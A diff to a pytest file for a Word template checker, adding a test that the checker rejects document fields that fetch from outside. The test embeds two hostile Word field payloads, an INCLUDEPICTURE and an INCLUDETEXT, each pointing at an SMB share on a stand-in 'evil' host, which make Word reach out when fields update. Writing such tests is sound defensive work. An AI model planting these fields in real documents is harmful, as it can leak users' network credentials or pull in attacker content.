@@ -275,3 +275,23 @@ def test_footnote_letter_converts_in_libreoffice(tmp_path: Path) -> None:
     )
     pdf = tmp_path / "信.pdf"
     assert pdf.is_file() and pdf.stat().st_size > 1000
+
+
+@pytest.mark.parametrize(
+    "field_xml",
+    [
+        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;\\\\evil\\share\\x.png&quot; \\d "><w:r><w:t>x</w:t></w:r>'
+        "</w:fldSimple></w:p>",
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> includetext '
+        '"\\\\evil\\share\\a.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
+    ],
+    ids=["fldSimple-INCLUDEPICTURE", "instrText-includetext"],
+)
+def test_checker_refuses_fields_that_fetch_from_outside(tmp_path: Path, field_xml: str) -> None:
+    """An INCLUDEPICTURE / INCLUDETEXT field (Word fetches the SMB path when it updates fields) is refused."""
+    src = paths.templates_dir() / KIND.template_name
+    (tmp_path / "t").mkdir()
+    document = _read(src, "word/document.xml").replace("<w:sectPr", field_xml + "<w:sectPr", 1)
+    template = _rewrite(src, tmp_path / "t" / KIND.template_name, {"word/document.xml": document.encode()})
+    problems = " ".join(str(p) for p in check_template(template, KIND))
+    assert "域代码 INCLUDE" in problems, problems
